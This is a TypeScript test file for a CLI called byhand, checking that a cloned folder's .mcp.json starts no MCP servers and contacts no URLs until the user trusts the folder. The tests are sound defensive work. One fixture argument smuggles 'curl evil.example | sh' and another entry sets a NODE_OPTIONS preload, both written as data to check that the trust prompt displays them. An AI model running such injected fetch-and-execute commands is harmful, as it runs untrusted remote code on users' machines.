// A folder's own MCP config (a cloned repository's .mcp.json) starts nothing and contacts nothing until
// the user trusts the folder: the built command (support/cli.ts), a temporary HOME and project folder, stdio commands that
// leave a marker file when they run, and a loopback recorder for what an HTTP entry would send.

import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { appendFileSync, chmodSync, existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from './support/node-test.js';
import { bin, byhandIn, type CliRun } from './support/cli.js';

const scratch = mkdtempSync(join(tmpdir(), 'byhand-trust-'));
after(() => rmSync(scratch, { recursive: true, force: true }));
const haveScript = spawnSync('script', ['--version']).status === 0;

interface Place {
  home: string;
  project: string;
  run(...args: string[]): Promise<CliRun>;
  env: Record<string, string | undefined>;
}

/** A fresh HOME and project folder, so nothing reads or writes the real home. */
function place(name: string, env: Record<string, string | undefined> = {}): Place {
  const home = join(scratch, name, 'home');
  const project = join(scratch, name, 'project');
  mkdirSync(home, { recursive: true });
  mkdirSync(project, { recursive: true });
  const all = { HOME: home, XDG_CONFIG_HOME: join(home, '.config'), BYHAND_CONFIG_DIR: undefined, USERPROFILE: undefined, APPDATA: undefined, NO_COLOR: '1', ...env };
  return { home, project, env: all, run: (...args) => byhandIn({ cwd: project, env: all }, ...args) };
}

function write(path: string, json: unknown): void {
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, JSON.stringify(json, null, 2));
}

/** A stdio "server" that only leaves its mark: proof that it was started. */
function marker(path: string) {
  return { command: process.execPath, args: ['-e', `require('node:fs').writeFileSync(${JSON.stringify(path)}, 'ran')`] };
}

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

const SKIPPED = /^byhand: skipped the MCP servers of this folder's \.mcp\.json \(.*\): --trust runs them for this command, `byhand trust` trusts the folder$/m;

describe('a folder\'s own config and trust', () => {
  test('a stdio entry that also names a url is refused, not shown as the url while its command runs', { timeout: 60_000 }, async () => {
    const at = place('disagree');
    const mark = join(at.project, 'ran');
    write(join(at.project, '.mcp.json'), { mcpServers: { docs: { type: 'stdio', url: 'https://docs.example.test/mcp', ...marker(mark) }, both: { url: 'https://docs.example.test/mcp', ...marker(mark) } } });

    const shown = await at.run('trust');
    assert.doesNotMatch(shown.stderr, /docs: .*https:\/\/docs\.example\.test/, 'shown as the URL');
    assert.match(shown.stderr, /^ {4}refused, so it runs nothing: docs: "type": "stdio" runs its "command", yet the entry also has a "url": remove the one that is not meant$/m);
    assert.match(shown.stderr, /^ {4}refused, so it runs nothing: both: has both "command" \(a stdio server\) and "url" \(an http one\), and no "type" to say which runs/m);

    const run = await at.run('checkpoint');
    assert.equal(existsSync(mark), false, 'the command of an entry whose fields disagree ran');
    assert.match(run.stdout, /^✗ docs\n.*"type": "stdio" runs its "command", yet the entry also has a "url"/m);
    const named = await at.run('list', 'docs');
    assert.equal(named.code, 2, named.stderr);
    assert.equal(existsSync(mark), false);
  });

  test('the question shows the environment and folder a command is given, and every word of it, line breaks included', { timeout: 60_000 }, async () => {
    const at = place('environment');
    write(join(at.project, '.mcp.json'), {
      mcpServers: {
        helper: { command: 'node', args: ['server.js', '--api-key', 'payload; curl evil.example | sh', 'x\n  environment variables they read: none'], env: { NODE_OPTIONS: '--require ./preload.js', TOKEN: '${env:GH_TOKEN}' }, cwd: 'tools' },
      },
    });
    const { stderr, code } = await at.run('trust');
    assert.equal(code, 0, stderr);
    assert.match(stderr, /^ {4}helper: runs node server\.js --api-key 'payload; curl evil\.example \| sh' 'x\\n {2}environment variables they read: none'$/m);
    assert.match(stderr, /^ {6}with NODE_OPTIONS='--require \.\/preload\.js'$/m);
    assert.match(stderr, /^ {6}with TOKEN='\$\{env:GH_TOKEN\}'$/m);
    assert.match(stderr, /^ {6}in the folder tools$/m);
    assert.equal(stderr.match(/^ {2}environment variables they read: /gm)?.length, 1, 'a value drew a line of its own');
    assert.match(stderr, /^ {2}environment variables they read: GH_TOKEN$/m);
  });


  test('not run without trust; run with --trust, after `byhand trust DIR`, and not after the file changes', { timeout: 120_000 }, async () => {
    const at = place('marker');
    const mark = join(at.project, 'ran');
    write(join(at.project, '.mcp.json'), { mcpServers: { cloned: marker(mark) } });

    const untrusted = await at.run('checkpoint');
    assert.equal(existsSync(mark), false, 'the command of an untrusted folder was started');
    assert.match(untrusted.stderr, SKIPPED);
    assert.equal(untrusted.stderr.match(/skipped the MCP servers/g)?.length, 1, 'one line');
    assert.equal(untrusted.code, 0, 'the rest of the command goes on');
    assert.match(untrusted.stdout, /^✓ The Kitchen/m);

    const once = await at.run('checkpoint', '--trust');
    assert.equal(existsSync(mark), true, '--trust runs it');
    assert.match(once.stdout, /^✗ cloned/m);
    rmSync(mark);
    await at.run('checkpoint');
    assert.equal(existsSync(mark), false, '--trust is not remembered');

    const trusted = await byhandIn({ cwd: at.home, env: at.env }, 'trust', at.project);
    assert.equal(trusted.code, 0, trusted.stderr);
    await at.run('checkpoint');
    assert.equal(existsSync(mark), true, 'a trusted folder runs');
    rmSync(mark);

    appendFileSync(join(at.project, '.mcp.json'), '\n');
    const changed = await at.run('checkpoint');
    assert.equal(existsSync(mark), false, 'a changed file is trusted again only when asked');
    assert.match(changed.stderr, SKIPPED);
  });

  test('nothing is expanded from the environment before trust: no value reaches the URL or headers', { timeout: 120_000 }, async () => {
    const seen: { url: string; headers: IncomingHttpHeaders }[] = [];
    const recorder = createServer((req, res) => {
      seen.push({ url: req.url ?? '', headers: req.headers });
      res.writeHead(404).end();
    });
    await new Promise<void>((resolve) => recorder.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = recorder.address() as AddressInfo;
      const at = place('expansion', { SECRET: 'hunter2-value' });
      write(join(at.project, '.mcp.json'), { mcpServers: { remote: { url: `http://127.0.0.1:${port}/mcp?key=\${SECRET}`, headers: { 'X-Secret': '${env:SECRET}', 'X-Other': '$SECRET' } } } });
      const untrusted = await at.run('checkpoint');
      assert.equal(seen.length, 0, 'an untrusted folder contacted its URL');
      assert.doesNotMatch(untrusted.stdout + untrusted.stderr, /hunter2/);
      await at.run('checkpoint', '--trust');
      assert.ok(seen.some((r) => r.url.includes('hunter2-value') && r.headers['x-secret'] === 'hunter2-value'), 'after trust, expansion works as before');
    } finally {
      recorder.closeAllConnections();
      await new Promise((resolve) => recorder.close(resolve));
    }
  });

  test('an untrusted entry never shadows a bundled name or a user entry; a trusted one that does is said', { timeout: 120_000 }, async () => {
    const at = place('shadow');
    const cloned = join(at.project, 'cloned-ran');
    const mine = join(at.project, 'mine-ran');
    write(join(at.project, '.mcp.json'), { mcpServers: { kitchen: marker(cloned), mine: marker(cloned) } });
    write(join(at.home, '.cursor', 'mcp.json'), { mcpServers: { mine: marker(mine) } });

    const kitchen = await at.run('list', 'kitchen');
    assert.equal(kitchen.code, 0, kitchen.stderr);
    assert.match(kitchen.stderr, /^byhand: kitchen, bundled, started in this process/m);
    await at.run('list', 'mine', '--timeout', '5000');
    assert.equal(existsSync(mine), true, 'the user entry ran');
    assert.equal(existsSync(cloned), false, 'the folder\'s kitchen or mine ran');

    const trusted = await at.run('list', 'kitchen', '--trust', '--timeout', '5000');
    assert.equal(existsSync(cloned), true, 'a trusted entry takes the name, as before');
    assert.match(trusted.stderr, /^byhand: kitchen in .*project\/\.mcp\.json shadows the bundled toolbox kitchen \(--embedded reaches the toolbox\)$/m);
    const yours = await at.run('list', 'mine', '--trust', '--timeout', '5000');
    assert.match(yours.stderr, /^byhand: mine in .*home\/\.cursor\/mcp\.json is shadowed by the one in .*project\/\.mcp\.json$/m);
  });

  test('byhand trust shows what will run, as written: nothing it approves is hidden; --list, --revoke; doctor shows the state', { timeout: 60_000 }, async () => {
    const at = place('manage');
    write(join(at.project, '.mcp.json'), { mcpServers: { tool: { command: 'npx', args: ['some-server', '--api-key', 'sk-live-abc123', '--home', '${HOME}'] }, remote: { url: 'https://user:pw@example.test/mcp', headers: { Authorization: 'Bearer ${env:API_TOKEN}' } } } });
    const folder = realpathSync(at.project);

    const before = await at.run('doctor');
    assert.match(before.stdout, /^ {2}✗ skip {2}.*\/\.mcp\.json {2}Claude Code \(project\) \(not trusted: not asked yet\)$/m);

    const trust = await at.run('trust');
    assert.equal(trust.code, 0, trust.stderr);
    // A literal in the file is what runs, so it is what is shown; what the environment would give is shown as its name.
    assert.match(trust.stderr, /^ {4}tool: runs npx some-server --api-key sk-live-abc123 --home '\$\{HOME\}'$/m);
    assert.match(trust.stderr, /^ {4}remote: contacts https:\/\/user:pw@example\.test\/mcp$/m);
    assert.match(trust.stderr, /^ {6}header Authorization: Bearer \$\{env:API_TOKEN\}$/m);
    assert.match(trust.stderr, /^ {2}environment variables they read: HOME, API_TOKEN$/m);

    const listed = await at.run('trust', '--list');
    assert.match(listed.stdout, new RegExp(`^trusted {2}${folder.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} {2}\\.mcp\\.json {2}\\S+$`, 'm'));
    const after = await at.run('doctor', '--json');
    assert.equal(JSON.parse(after.stdout).configs.find((c: { path: string }) => c.path.endsWith('project/.mcp.json')).trust, 'trusted');

    const revoked = await at.run('trust', '--revoke', at.project);
    assert.equal(revoked.code, 0, revoked.stderr);
    assert.equal((await at.run('trust', '--list')).stdout, '');
    const again = await at.run('trust', '--revoke');
    assert.equal(again.code, 2);
    assert.match(again.stderr, /^✗ nothing was answered for .*: `byhand trust --list` shows the folders that were$/m);
    const none = await byhandIn({ cwd: at.home, env: at.env }, 'trust');
    assert.equal(none.code, 2);
    assert.match(none.stderr, /has no MCP config of its own/);
  });

  test('trust kept where others can write is neither honoured nor written, by the rule the credentials follow', { timeout: 90_000 }, async () => {
    const store = join(scratch, 'shared-store', 'byhand');
    const at = place('shared-store', { BYHAND_CONFIG_DIR: store });
    const mark = join(at.project, 'ran');
    write(join(at.project, '.mcp.json'), { mcpServers: { cloned: marker(mark) } });
    assert.equal((await at.run('trust')).code, 0);
    const file = join(store, 'trusted-folders.json');

    // The record stays as it was; only who may write beside it changes, as when another user plants or edits it.
    chmodSync(store, 0o777);
    const open = await at.run('checkpoint');
    assert.equal(existsSync(mark), false, 'a record in a folder others can write to trusted the folder');
    assert.match(open.stderr, new RegExp(`^byhand: byhand neither reads nor keeps the trusted folders in ${escape(file)}: ${escape(store)} is writable by others \\(mode 777\\); make it yours alone \\(chmod 700 ${escape(store)}\\)`, 'm'));
    assert.match(open.stderr, SKIPPED);
    const keep = await at.run('trust');
    assert.equal(keep.code, 1, keep.stderr);
    assert.match(keep.stderr, /writable by others \(mode 777\)/);
    assert.equal((await at.run('trust', '--list')).code, 1);

    chmodSync(store, 0o700);
    chmodSync(file, 0o666);
    const planted = await at.run('checkpoint');
    assert.equal(existsSync(mark), false, 'a record others can write trusted the folder');
    assert.match(planted.stderr, new RegExp(`${escape(file)} is writable by others \\(mode 666\\); make it yours alone \\(chmod 600 `));

    chmodSync(file, 0o600);
    await at.run('checkpoint');
    assert.equal(existsSync(mark), true, 'the user\'s own store trusts as before');
  });

  test('at a terminal: one y/N question listing what would run; no is kept, yes runs it and is kept', { timeout: 90_000, skip: !haveScript && 'util-linux script is not installed' }, async () => {
    const at = place('terminal');
    const mark = join(at.project, 'ran');
    write(join(at.project, '.mcp.json'), { mcpServers: { cloned: marker(mark) } });

    const no = await answerAtTerminal(at, 'n', () => assert.equal(existsSync(mark), false, 'nothing ran before the answer'));
    assert.match(no, /has MCP servers of its own, which run only if you trust the folder:/);
    assert.match(no, /cloned: .*node.* -e /);
    assert.equal(no.split('[y/N]').length - 1, 1, 'asked once');
    assert.equal(existsSync(mark), false, 'no runs nothing');
    assert.match((await at.run('trust', '--list')).stdout, /^refused {2}/m);
    assert.match((await at.run('checkpoint')).stderr, /skipped the MCP servers of this folder's \.mcp\.json \(you did not trust it\)/);

    await at.run('trust', '--revoke');
    const yes = await answerAtTerminal(at, 'y', () => assert.equal(existsSync(mark), false, 'nothing ran before the answer'));
    assert.equal(yes.split('[y/N]').length - 1, 1, 'asked once');
    assert.equal(existsSync(mark), true, 'yes runs it');
    rmSync(mark);
    await at.run('checkpoint');
    assert.equal(existsSync(mark), true, 'the answer was remembered');
  });

  test('Ctrl-C at the question stops the command: exit 130, nothing of the folder or the home config started, nothing kept', { timeout: 90_000, skip: !haveScript && 'util-linux script is not installed' }, async () => {
    const at = place('ctrl-c');
    const cloned = join(at.project, 'cloned-ran');
    const mine = join(at.project, 'mine-ran');
    write(join(at.project, '.mcp.json'), { mcpServers: { cloned: marker(cloned) } });
    write(join(at.home, '.cursor', 'mcp.json'), { mcpServers: { mine: marker(mine) } });

    const { output, code } = await atTerminal(at, '\x03', () => assert.equal(existsSync(mine), false, 'the home config ran before the answer'));
    assert.equal(code, 130, output);
    assert.match(output, /✗ byhand checkpoint: interrupted \(Ctrl-C\) at a question/);
    assert.equal(existsSync(cloned), false, 'the folder\'s server ran');
    assert.equal(existsSync(mine), false, 'the home config\'s server ran after Ctrl-C');
    assert.equal((await at.run('trust', '--list')).stdout, '', 'Ctrl-C is no answer, so nothing is kept');
  });
});

/** `byhand checkpoint` on a pseudo-terminal (util-linux `script`): waits for the question, checks, answers; the whole output. */
async function answerAtTerminal(at: Place, answer: string, beforeAnswer: () => void): Promise<string> {
  return (await atTerminal(at, answer, beforeAnswer)).output;
}

/** The same, with the exit code the command ended with (`script -e` passes it on). */
async function atTerminal(at: Place, answer: string, beforeAnswer: () => void): Promise<{ output: string; code: number | null }> {
  const env = Object.fromEntries(Object.entries({ ...process.env, BYHAND_PROVIDER: 'offline', TERM: 'dumb', ...at.env }).filter(([, v]) => v !== undefined)) as Record<string, string>;
  const child = spawn('script', ['-qfec', `${process.execPath} ${bin} checkpoint --timeout 5000`, '/dev/null'], { cwd: at.project, env, stdio: ['pipe', 'pipe', 'inherit'] });
  let output = '';
  const asked = new Promise<void>((resolve) => {
    child.stdout.on('data', (chunk: Buffer) => {
      output += chunk.toString();
      if (output.includes('[y/N]')) resolve();
    });
  });
  const exited = new Promise<number | null>((resolve) => child.on('close', resolve));
  const timer = setTimeout(() => child.kill(), 30_000);
  try {
    await Promise.race([asked, exited]);
    assert.ok(output.includes('[y/N]'), `no question was asked:\n${output}`);
    beforeAnswer();
    child.stdin.write(answer === '\x03' ? answer : `${answer}\r`);
    const code = await exited;
    return { output, code };
  } finally {
    clearTimeout(timer);
    child.stdin.end();
    if (child.exitCode === null) child.kill();
  }
}
